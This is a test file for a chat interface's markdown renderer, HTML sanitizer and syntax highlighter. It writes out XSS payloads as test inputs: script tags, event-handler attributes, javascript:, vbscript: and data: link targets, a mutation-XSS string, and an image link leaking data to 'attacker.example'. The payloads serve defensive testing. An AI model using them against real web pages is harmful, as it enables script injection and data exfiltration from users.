// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeHtml } from "./render";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

/** Every element and attribute that could run script or load something. */
function assertInert(html: string) {
  const root = dom(html);
  for (const el of root.querySelectorAll("*")) {
    expect(["SCRIPT", "IMG", "IFRAME", "OBJECT", "EMBED", "SVG", "MATH", "STYLE", "FORM", "INPUT", "BUTTON"]).not.toContain(
      el.tagName.toUpperCase(),
    );
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith("on")).toBe(false);
      expect(["style", "class", "id", "src", "srcdoc", "formaction"]).not.toContain(attr.name);
      if (attr.name === "href") expect(attr.value).toMatch(/^(https?:|mailto:)/i);
    }
  }
}

describe("markdown renderer", () => {
  it("renders paragraphs, lists, emphasis and code", () => {
    const html = renderMarkdown("# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n```js\nconst a = 1 < 2;\n```\n");
    const root = dom(html);
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelectorAll("li")).toHaveLength(2);
    expect(root.querySelector("pre code")?.textContent).toBe("const a = 1 < 2;\n");
  });

  it("renders GFM tables", () => {
    const root = dom(renderMarkdown("| a | b |\n|---|:-:|\n| 1 | 2 |\n"));
    expect(root.querySelectorAll("td")).toHaveLength(2);
  });

  it("shows raw HTML from the model as text", () => {
    const html = renderMarkdown('Look: <img src=x onerror="alert(1)"> and <script>alert(2)</script>');
    assertInert(html);
    expect(dom(html).textContent).toContain('<img src=x onerror="alert(1)">');
    expect(dom(html).textContent).toContain("<script>alert(2)</script>");
  });

  it("shows a raw HTML block as text", () => {
    const html = renderMarkdown('<div onclick="steal()">\n<svg onload=alert(1)></svg>\n</div>\n');
    assertInert(html);
    expect(dom(html).textContent).toContain("<svg onload=alert(1)>");
  });

  it.each([
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
  ])("drops unsafe link targets: %s", (source) => {
    const html = renderMarkdown(source);
    assertInert(html);
    expect(html).not.toMatch(/href="\s*(javascript|vbscript|data):/i);
  });

  it("keeps http(s) links and opens them safely in a new tab", () => {
    const a = dom(renderMarkdown("[docs](https://example.com/x)")).querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.com/x");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("turns images into links so nothing is loaded from a URL the model chose", () => {
    const html = renderMarkdown("![secret](https://attacker.example/leak?q=data)");
    assertInert(html);
    expect(dom(html).querySelector("img")).toBeNull();
    expect(dom(html).querySelector("a")?.textContent).toBe("Image: secret");
  });

  it("escapes code block content", () => {
    const root = dom(renderMarkdown("```html\n<script>alert(1)</script>\n```"));
    expect(root.querySelector("script")).toBeNull();
    expect(root.querySelector("code")?.textContent).toContain("<script>alert(1)</script>");
  });
});

describe("sanitizer", () => {
  it.each([
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="https://example.com"></iframe>',
    '<p style="position:fixed" class="notice error" id="composer">spoof</p>',
    '<form action="https://x"><button formaction="javascript:alert(1)">go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="https://ok.example" onclick="alert(1)" data-x="1">ok</a>',
    '<details open ontoggle=alert(1)>',
  ])("neutralizes %s", (html) => {
    assertInert(sanitizeHtml(html));
  });

  it("keeps the allowed markup", () => {
    expect(sanitizeHtml("<p><strong>a</strong> <code>b</code></p>")).toBe("<p><strong>a</strong> <code>b</code></p>");
  });
});

describe("syntax highlighting", () => {
  it("colours a known language and escapes everything in the code", async () => {
    const { highlightCode } = await import("./highlight");
    const html = highlightCode('const s = "<img src=x onerror=alert(1)>"; // <script>', "js")!;
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("&lt;script&gt;");
    // Only spans with hljs classes: no element the model could have written.
    expect(html.match(/<[a-z]+/g)!.every((tag) => tag === "<span")).toBe(true);
  });

  it("leaves unknown or unnamed languages to plain text", async () => {
    const { highlightCode } = await import("./highlight");
    expect(highlightCode("x", "")).toBeUndefined();
    expect(highlightCode("x", "no-such-language")).toBeUndefined();
  });
});
